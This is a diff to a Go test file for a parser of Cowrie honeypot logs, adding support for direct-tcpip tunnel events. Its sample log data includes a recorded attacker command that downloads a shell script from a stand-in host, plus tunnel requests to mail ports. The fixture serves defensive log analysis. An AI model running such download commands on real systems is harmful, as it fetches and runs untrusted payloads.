@@ -2,6 +2,7 @@ package parse
 
 import (
 	"bytes"
+	"strings"
 	"testing"
 )
 
@@ -12,6 +13,9 @@ const cowrieSample = `{"eventid": "cowrie.session.connect", "src_ip": "177.138.3
 {"eventid": "cowrie.command.input", "input": "cd /tmp; wget http://x.example/a.sh", "timestamp": "2018-06-01T00:05:02Z", "src_ip": "177.138.38.27", "sensor": "s1", "isError": 0}
 {"eventid": "cowrie.session.file_download", "url": "http://x.example/a.sh", "shasum": "0b41", "timestamp": "2018-06-01T00:05:03Z", "src_ip": "177.138.38.27", "sensor": "s1"}
 {"eventid": "cowrie.command.input", "input": "", "timestamp": "2018-06-01T00:05:04Z", "src_ip": "177.138.38.27"}
+{"eventid": "cowrie.direct-tcpip.request", "dst_ip": "2a00:1450:4001::1b", "dst_port": 587, "src_port": 22, "timestamp": "2018-06-01T00:05:05Z", "src_ip": "177.138.38.27", "sensor": "s1"}
+{"eventid": "cowrie.direct-tcpip.request", "dst_ip": "mx.example", "dst_port": "25", "timestamp": "2018-06-01T00:05:06Z", "src_ip": "177.138.38.27", "sensor": "s1", "message": "a\tb"}
+{"eventid": "cowrie.direct-tcpip.request", "dst_ip": "mx.example", "dst_port": 0, "timestamp": "2018-06-01T00:05:07Z", "src_ip": "177.138.38.27", "sensor": "s1"}
 {"eventid": "cowrie.login.failed", "username": "x", "password": "y", "timestamp": "yesterday", "src_ip": "177.138.38.27"}
 {"eventid": "cowrie.login.failed", "username": 
 `
@@ -37,11 +41,13 @@ func TestCowrieLines(t *testing.T) {
 		}),
 		with(5, "2018-06-01T00:05:02Z", func(l *gotLogon) { l.Command = "cd /tmp; wget http://x.example/a.sh" }),
 		with(6, "2018-06-01T00:05:03Z", func(l *gotLogon) { l.URL, l.Hash = "http://x.example/a.sh", "0b41" }),
+		with(8, "2018-06-01T00:05:05Z", func(l *gotLogon) { l.URL = "tcp://[2a00:1450:4001::1b]:587" }),
+		with(9, "2018-06-01T00:05:06Z", func(l *gotLogon) { l.URL = "tcp://mx.example:25" }),
 	})
-	if len(out.logon) != 5 {
-		t.Errorf("%d records, want 5: %+v", len(out.logon), out.logon)
+	if len(out.logon) != 7 { // not the empty command, nor the tunnel to port 0
+		t.Errorf("%d records, want 7: %+v", len(out.logon), out.logon)
 	}
-	want := []string{"8 bad timestamp", "9 invalid JSON"}
+	want := []string{"11 bad timestamp", "12 invalid JSON"}
 	if got := out.skipList(); len(got) != 2 || got[0] != want[0] || got[1] != want[1] {
 		t.Errorf("skips %q, want %q", got, want)
 	}
@@ -64,23 +70,12 @@ func TestCowrieSamples(t *testing.T) {
 			out := parseText(t, "cowrie-json", data)
 			got := map[string]int64{}
 			for _, r := range out.logon {
-				switch {
-				case r.Result == "success":
-					got["cowrie.login.success"]++
-				case r.Result == "failure":
-					got["cowrie.login.failed"]++
-				case r.Command != "":
-					got["cowrie.command.input"]++
-				case r.URL != "":
-					got["cowrie.session.file_download"]++
-				case r.Software != "":
-					got["cowrie.client.version"]++
-				}
+				got[cowrieEvent(r)]++
 				if r.Client == "" || r.Target == "" {
 					t.Fatalf("record %+v", r)
 				}
 			}
-			for _, ev := range []string{"cowrie.login.success", "cowrie.login.failed", "cowrie.command.input", "cowrie.session.file_download", "cowrie.client.version"} {
+			for _, ev := range cowrieEvents {
 				want := toolCount(t, data, "jq", "-nR", `[inputs | fromjson? | select(.eventid == "`+ev+`" and (.input // "x") != "")] | length`)
 				if got[ev] != want {
 					t.Errorf("%s: %d, jq counts %d", ev, got[ev], want)
@@ -97,9 +92,32 @@ func TestCowrieSamples(t *testing.T) {
 	}
 }
 
+// cowrieEvents are the Cowrie events that give a record.
+var cowrieEvents = []string{"cowrie.login.success", "cowrie.login.failed", "cowrie.command.input", "cowrie.session.file_download",
+	"cowrie.client.version", "cowrie.direct-tcpip.request"}
+
+// cowrieEvent is the Cowrie event a record stands for.
+func cowrieEvent(r gotLogon) string {
+	switch {
+	case r.Result == "success":
+		return "cowrie.login.success"
+	case r.Result == "failure":
+		return "cowrie.login.failed"
+	case r.Command != "":
+		return "cowrie.command.input"
+	case strings.HasPrefix(r.URL, "tcp://"):
+		return "cowrie.direct-tcpip.request"
+	case r.URL != "":
+		return "cowrie.session.file_download"
+	case r.Software != "":
+		return "cowrie.client.version"
+	}
+	return "none"
+}
+
 // A line whose strings are plain is read without allocating.
 func TestCowrieNoAllocs(t *testing.T) {
-	lines := bytes.Split([]byte(cowrieSample), []byte("\n"))[:6]
+	lines := bytes.Split([]byte(cowrieSample), []byte("\n"))[:8]
 	lines = append(lines[:3], lines[4:]...) // line 4 has an escape: the slow path
 	noAllocs(t, &cowrieParser{}, lines)
 }
